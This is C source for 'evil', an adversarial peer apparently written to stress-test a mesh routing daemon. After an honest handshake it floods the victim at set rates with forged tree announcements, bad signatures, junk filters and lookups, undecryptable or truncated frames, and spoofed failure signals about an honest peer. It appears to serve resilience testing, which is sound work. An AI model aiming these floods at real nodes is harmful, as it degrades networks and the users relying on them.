/*
 * evil.c -- a peer that means harm. It has an identity and makes an honest
 * handshake; then it sends what it is told, as fast as it is told.
 *
 *	NSEC=nsec1... [FROM=port] evil NPUB-OF-VICTIM ADDR PORT SINK-ADDR NPUB-A NPUB-B
 *
 * Says "up", then reads lines "KIND RATE SECONDS" and answers each with
 * "KIND frames N seconds S". A kind with "away:" before it goes to SINK-ADDR
 * instead: what the sending alone costs. A and B are honest peers of the
 * victim. Linked with the codecs and the ciphers of the house.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "aead.h"
#include "frame.h"
#include "fsp.h"
#include "ident.h"
#include "lookup.h"
#include "noise.h"
#include "tree.h"
#include "wire.h"

enum { BATCH = 64, FRAME_MAX = 1500, SIGNED = 64, OUR_INDEX = 0x66666666 };

static struct {
	struct key		me;
	uint8_t			pub[PUB_LEN], addr[NADDR_LEN];	/* the victim's */
	uint8_t			a[NADDR_LEN], b[NADDR_LEN];
	struct sockaddr_in	to, away;
	int			fd;
	struct noise_keys	keys;
	uint32_t		index;		/* theirs */
	uint64_t		counter;
	struct timespec		began;
	struct tree_ann		ann[SIGNED];	/* signed beforehand */
	uint64_t		seq;
} evil;

static void
die(const char *why)
{
	fprintf(stderr, "evil: %s\n", why);
	exit(1);
}

static double
now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint64_t
noise64(void)
{
	static uint64_t s = 0x9e3779b97f4a7c15;

	s ^= s << 13, s ^= s >> 7, s ^= s << 17;
	return s;
}

static void
scrawl(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)noise64();
}

/* -- messages: each writes one link message, type first -------------------- */

static size_t
put_tree(uint8_t *out, struct tree_ann *a)
{
	ssize_t n = tree_encode(a, out, FRAME_MAX);

	return n < 0 ? 0 : (size_t)n;
}

/* A place under a root that is better than any, and that nobody is; n 1: a root. */
static void
forge(struct tree_ann *a, uint64_t seq, unsigned n)
{
	memset(a, 0, sizeof(*a));
	memcpy(a->decl.addr, evil.me.addr, NADDR_LEN);
	a->decl.seq = seq;
	a->decl.ts = (uint64_t)time(NULL);
	a->path.at.n = (uint16_t)n;
	for (unsigned i = 1; i < n; i++)
		scrawl(a->path.at.addr[i], NADDR_LEN);
	memcpy(a->path.at.addr[0], evil.me.addr, NADDR_LEN);
	if (n > 1)
		memset(a->path.at.addr[n - 1], 0, 8);
	memcpy(a->decl.parent, a->path.at.addr[n > 1], NADDR_LEN);
}

static void
sign(struct tree_ann *a)
{
	uint8_t tbs[TREE_TBS_LEN], aux[32] = { 0 };

	tree_tbs(&a->decl, tbs);
	if (curve_sign(evil.me.sec, tbs, sizeof(tbs), aux, a->sig) == -1)
		die("cannot sign");
}

static size_t
ancestry(uint8_t *out)
{
	return put_tree(out, &evil.ann[evil.seq++ % SIGNED]);
}

static size_t
badsig(uint8_t *out)
{
	static struct tree_ann a;

	if (a.path.at.n == 0)
		forge(&a, 0, 3);
	a.decl.seq = a.path.seq[0] = 1000000 + evil.seq++;
	scrawl(a.sig, 8);
	return put_tree(out, &a);
}

static size_t
deep(uint8_t *out)
{
	static struct tree_ann a;

	if (a.path.at.n == 0)
		forge(&a, 0, 36);
	a.decl.seq = a.path.seq[0] = 1000000 + evil.seq++;
	return put_tree(out, &a);
}

/* Below the best of roots, and a root again, in turns of 0.7 s. */
static size_t
sway(uint8_t *out)
{
	struct tree_ann a;

	forge(&a, 2000000 + evil.seq++, (unsigned)(now() / 0.7) & 1 ? 3 : 1);
	sign(&a);
	return put_tree(out, &a);
}

static size_t
filter_of(uint8_t *out, uint8_t hashes, int fill)
{
	struct wr w = wr_init(out, FRAME_MAX);

	wr_uint(&w, LINK_MSG_FILTER_ANNOUNCE, 1, 0, UINT8_MAX);
	wr_uint(&w, evil.seq++ + 1, 8, 0, UINT64_MAX);
	wr_uint(&w, hashes, 1, 0, UINT8_MAX);
	wr_uint(&w, 1, 1, 0, UINT8_MAX);
	memset(w.p, fill, 1024);
	if (fill == 0)
		scrawl(w.p, 200);
	return (size_t)(w.p - out) + 1024;
}

static size_t
filter(uint8_t *out)
{
	return filter_of(out, 5, 0xff);
}

static size_t
filters(uint8_t *out)
{
	return filter_of(out, 5, 0);
}

static size_t
hashes(uint8_t *out)
{
	return filter_of(out, 255, 0);
}

static size_t
ask(uint8_t *out, const uint8_t *target)
{
	struct lookup_request q = { .id = noise64(), .ttl = 64 };
	ssize_t n;

	q.path.n = 1;
	memcpy(q.origin, evil.me.addr, NADDR_LEN);
	memcpy(q.path.addr[0], evil.me.addr, NADDR_LEN);
	if (target != NULL)
		memcpy(q.target, target, NADDR_LEN);
	else
		scrawl(q.target, NADDR_LEN);
	n = lookup_request_encode(&q, out, FRAME_MAX);
	return n < 0 ? 0 : (size_t)n;
}

static size_t
lookup(uint8_t *out)
{
	return ask(out, NULL);
}

static size_t
lookup_v(uint8_t *out)
{
	return ask(out, evil.addr);
}

static size_t
lookup_b(uint8_t *out)
{
	return ask(out, evil.b);
}

static size_t
proof(uint8_t *out)
{
	struct lookup_response r = { .id = 7, .path_mtu = 0 };
	ssize_t n;

	r.path.n = 1;
	memcpy(r.target, evil.b, NADDR_LEN);
	memcpy(r.path.addr[0], evil.b, NADDR_LEN);
	scrawl(r.proof, 8);
	n = lookup_response_encode(&r, out, FRAME_MAX);
	return n < 0 ? 0 : (size_t)n;
}

static size_t
dgram(uint8_t *out, uint8_t ttl, uint16_t mtu, const uint8_t *src,
    const uint8_t *dst)
{
	struct fsp_dgram d = { .ttl = ttl, .path_mtu = mtu };

	memcpy(d.src, src, NADDR_LEN);
	memcpy(d.dst, dst, NADDR_LEN);
	fsp_dgram_encode(&d, out);
	return FSP_DGRAM;
}

/* A session frame of n bytes of plaintext that no key will open. */
static size_t
shut(uint8_t *out, uint8_t flags, size_t n)
{
	out[0] = FSP_DATA;
	out[1] = flags;
	put_le16(out + 2, (uint16_t)n);
	put_le64(out + 4, noise64());
	scrawl(out + FSP_HEAD, 16);
	return FSP_HEAD + n + FSP_TAG;
}

static size_t
source(uint8_t *out)
{
	size_t n = dgram(out, 64, 1280, evil.a, evil.b);

	return n + shut(out + n, 0, 200);
}

static size_t
source_v(uint8_t *out)
{
	size_t n = dgram(out, 64, 1280, evil.a, evil.addr);

	return n + shut(out + n, 0, 200);
}

static size_t
transit(uint8_t *out)
{
	size_t n = dgram(out, 64, 1280, evil.me.addr, evil.b);

	return n + shut(out + n, 0, 1000);
}

static size_t
mtu(uint8_t *out)
{
	size_t n = dgram(out, 64, 0, evil.a, evil.b);

	return n + shut(out + n, 0, 200);
}

static size_t
nowhere(uint8_t *out)
{
	uint8_t to[NADDR_LEN];
	size_t	n;

	scrawl(to, sizeof(to));
	n = dgram(out, 64, 1280, evil.me.addr, to);
	return n + shut(out + n, 0, 200);
}

static size_t
ttl(uint8_t *out)
{
	size_t n = dgram(out, noise64() & 1, 1280, evil.me.addr, evil.b);

	return n + shut(out + n, 0, 200);
}

/* Promises coordinates and ends: 4 to 11 bytes of session frame. */
static size_t
cut(uint8_t *out)
{
	size_t n = dgram(out, 64, 1280, evil.me.addr,
	    noise64() & 1 ? evil.b : evil.addr), m = 4 + noise64() % 8;

	memset(out + n, 0, m);
	out[n + 1] = FSP_CP;
	return n + m;
}

/* Places of nodes that are not there, and of B at our feet. */
static size_t
coords(uint8_t *out)
{
	uint8_t	src[NADDR_LEN], path[2][NADDR_LEN] = { 0 };
	struct fsp_shake s = { .phase = FSP_SETUP };
	uint8_t	hs[FSP_MSG1];
	size_t	n;
	ssize_t m;

	scrawl(src, sizeof(src));
	memcpy(path[0], src, NADDR_LEN);
	n = dgram(out, 64, 1280, src, evil.b);
	s.src = s.dst = (struct fsp_coords){ 2, path[0] };
	scrawl(hs, sizeof(hs));
	hs[0] = 2;		/* half of these are points */
	s.noise = hs;
	s.noise_len = sizeof(hs);
	m = fsp_shake_encode(&s, out + n, FRAME_MAX - n);
	return m < 0 ? 0 : n + (size_t)m;
}

static size_t
setup(uint8_t *out)
{
	size_t n = coords(out);

	memcpy(out + 4 + NADDR_LEN, evil.addr, NADDR_LEN);
	return n;
}

/* Complaints about B, to the victim and through it to A. */
static size_t
signals(uint8_t *out)
{
	static const uint8_t type[] = { FSP_COORDS_REQUIRED, FSP_PATH_BROKEN,
	    FSP_MTU_EXCEEDED };
	struct fsp_signal s = { .type = type[noise64() % 3] };
	size_t	n = dgram(out, 64, 1280, evil.me.addr,
	    noise64() & 1 ? evil.a : evil.addr);
	ssize_t m;

	memcpy(s.dest, evil.b, NADDR_LEN);
	memcpy(s.reporter, evil.me.addr, NADDR_LEN);
	m = fsp_signal_encode(&s, out + n, FRAME_MAX - n);
	return m < 0 ? 0 : n + (size_t)m;
}

static size_t
report(uint8_t *out)
{
	size_t n = noise64() & 1 ? 48 : 68;

	scrawl(out, n);
	out[0] = n == 48 ? LINK_MSG_SENDER_REPORT : LINK_MSG_RECEIVER_REPORT;
	return noise64() % 4 == 0 ? n - 9 : n;
}

static size_t
heartbeat(uint8_t *out)
{
	out[0] = LINK_MSG_HEARTBEAT;
	return 1;
}

/* Counted by whoever opens it; the frame says that it is longer than it is. */
static size_t
longer(uint8_t *out)
{
	return ttl(out);
}

static size_t
nonsense(uint8_t *out)
{
	size_t n = 1 + noise64() % 200;

	scrawl(out, n);
	if (out[0] == LINK_MSG_DISCONNECT)
		out[0]++;
	return n;
}

static const struct kind {
	const char	*name;
	size_t		(*make)(uint8_t *);
} kinds[] = {
	{ "heartbeat", heartbeat }, { "ancestry", ancestry },
	{ "badsig", badsig }, { "deep", deep }, { "sway", sway },
	{ "filter", filter },
	{ "filters", filters }, { "hashes", hashes }, { "lookup", lookup },
	{ "lookup_v", lookup_v }, { "lookup_b", lookup_b },
	{ "proof", proof }, { "source", source }, { "source_v", source_v },
	{ "mtu", mtu }, { "nowhere", nowhere }, { "ttl", ttl }, { "cut", cut },
	{ "coords", coords }, { "setup", setup }, { "signals", signals },
	{ "report", report }, { "nonsense", nonsense },
	{ "transit", transit }, { "longer", longer }, { "unsealed", NULL },
};

/* -- the link --------------------------------------------------------------- */

static uint32_t
stamp(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint32_t)((t.tv_sec - evil.began.tv_sec) * 1000 +
	    (t.tv_nsec - evil.began.tv_nsec) / 1000000);
}

static size_t
seal(uint8_t *out, size_t (*make)(uint8_t *))
{
	size_t n = make == NULL ? heartbeat(out + FRAME_BODY_OFF) :
	    make(out + FRAME_BODY_OFF);

	frame_data(out, 0, (uint16_t)(4 + n + (make == longer)), evil.index,
	    evil.counter);
	put_le32(out + FRAME_HEAD_LEN, stamp());
	aead_seal(evil.keys.send, evil.counter++, out, FRAME_HEAD_LEN,
	    out + FRAME_HEAD_LEN, 4 + n);
	if (make == NULL)
		out[FRAME_BODY_OFF] ^= 1;
	return FRAME_OVERHEAD + n;
}

static void
drain(void)
{
	uint8_t in[64];

	for (int i = 0; i < 256; i++)
		if (recv(evil.fd, in, sizeof(in), MSG_DONTWAIT) == -1)
			break;
}

static void
send_one(size_t (*make)(uint8_t *))
{
	uint8_t out[FRAME_MAX];
	size_t	n = seal(out, make);

	sendto(evil.fd, out, n, 0, (struct sockaddr *)&evil.to, sizeof(evil.to));
}

static void
handshake(void)
{
	uint8_t		e[SEC_LEN], m[IK_MSG1_LEN], out[FRAME_MSG1_LEN], in[256];
	uint8_t		epoch[EPOCH_LEN];
	struct noise	hs;
	struct frame	f;
	struct pollfd	p = { .fd = evil.fd, .events = POLLIN };
	double		until = now() + 5;
	ssize_t		n;

	curve_random(e);
	if (noise_ik_write1(&hs, &evil.me, evil.pub, e, m) != REFUSE_NONE)
		die("no message 1");
	frame_msg1(out, OUR_INDEX, m);
	while (now() < until) {
		sendto(evil.fd, out, sizeof(out), 0,
		    (struct sockaddr *)&evil.to, sizeof(evil.to));
		if (poll(&p, 1, 1000) < 1)
			continue;
		n = recv(evil.fd, in, sizeof(in), 0);
		if (n > 0 && frame_decode(in, (size_t)n, &f) == REFUSE_NONE &&
		    f.phase == FRAME_MSG2 && noise_ik_read2(&hs, in + f.body,
		    epoch, &evil.keys) == REFUSE_NONE) {
			evil.index = f.sender;
			clock_gettime(CLOCK_MONOTONIC, &evil.began);
			send_one(heartbeat);
			return;
		}
	}
	die("the victim does not answer");
}

static void
prepare(void)
{
	for (unsigned i = 0; i < SIGNED; i++) {
		forge(&evil.ann[i], i + 1, 2 + i % 5);
		sign(&evil.ann[i]);
	}
}

/* In batches, as many as are due by now. */
static void
flood(const char *name, const struct kind *k, const struct sockaddr_in *to,
    double rate, double seconds)
{
	static uint8_t		buf[BATCH][FRAME_MAX];
	static struct iovec	iov[BATCH];
	static struct mmsghdr	msg[BATCH];
	double			began = now(), t;
	uint64_t		sent = 0;
	unsigned		i;

	while ((t = now() - began) < seconds) {
		if ((double)sent + BATCH > t * rate) {
			usleep(1000);
			continue;
		}
		for (i = 0; i < BATCH; i++) {
			iov[i] = (struct iovec){ buf[i], seal(buf[i], k->make) };
			msg[i].msg_hdr = (struct msghdr){ .msg_iov = &iov[i],
			    .msg_iovlen = 1, .msg_name = (void *)(uintptr_t)to,
			    .msg_namelen = sizeof(*to) };
		}
		sendmmsg(evil.fd, msg, BATCH, 0);
		sent += BATCH;
		if (sent % 4096 == 0)
			drain();
	}
	printf("%s frames %llu seconds %.2f\n", name, (unsigned long long)sent, t);
	fflush(stdout);
}

static void
obey(const char *line)
{
	char	name[64];
	double	rate, seconds;
	int	away = strncmp(line, "away:", 5) == 0;

	if (sscanf(line, "%63s %lf %lf", name, &rate, &seconds) != 3)
		die("KIND RATE SECONDS");
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++)
		if (strcmp(kinds[i].name, name + (away ? 5 : 0)) == 0) {
			flood(name, &kinds[i], away ? &evil.away : &evil.to,
			    rate, seconds);
			return;
		}
	die("no such kind");
}

static void
who(const char *npub, uint8_t pub[PUB_LEN], uint8_t addr[NADDR_LEN])
{
	if (npub_decode(npub, pub + 1) == -1)
		die("no npub");
	pub[0] = 2;
	curve_addr(pub, addr);
}

static struct sockaddr_in
address(const char *ip, const char *port)
{
	struct sockaddr_in s = { .sin_family = AF_INET };

	s.sin_port = htons((uint16_t)atoi(port));
	if (inet_pton(AF_INET, ip, &s.sin_addr) != 1)
		die("no IPv4 address");
	return s;
}

int
main(int argc, char **argv)
{
	struct pollfd	in = { .fd = 0, .events = POLLIN };
	uint8_t		pub[PUB_LEN];
	char		line[128];
	const char     *nsec = getenv("NSEC");
	struct sockaddr_in from;

	if (argc != 7 || nsec == NULL)
		die("NSEC=... evil NPUB ADDR PORT SINK NPUB-A NPUB-B");
	if (curve_init() == -1 || nsec_decode(nsec, evil.me.sec) == -1 ||
	    curve_public(evil.me.sec, evil.me.pub) == -1)
		die("no identity");
	curve_addr(evil.me.pub, evil.me.addr);
	randombytes_buf(evil.me.epoch, sizeof(evil.me.epoch));
	who(argv[1], evil.pub, evil.addr);
	who(argv[5], pub, evil.a);
	who(argv[6], pub, evil.b);
	evil.to = address(argv[2], argv[3]);
	evil.away = address(argv[4], "9");
	evil.fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (getenv("FROM") != NULL) {
		from = address("0.0.0.0", getenv("FROM"));
		if (bind(evil.fd, (struct sockaddr *)&from, sizeof(from)) == -1)
			die("its port is taken");
	}
	prepare();
	handshake();
	puts("up");
	fflush(stdout);
	setvbuf(stdin, NULL, _IONBF, 0);
	for (;;) {
		if (poll(&in, 1, 3000) == 0) {
			drain();
			send_one(heartbeat);
			continue;
		}
		if (fgets(line, sizeof(line), stdin) == NULL)
			return 0;
		obey(line);
	}
}
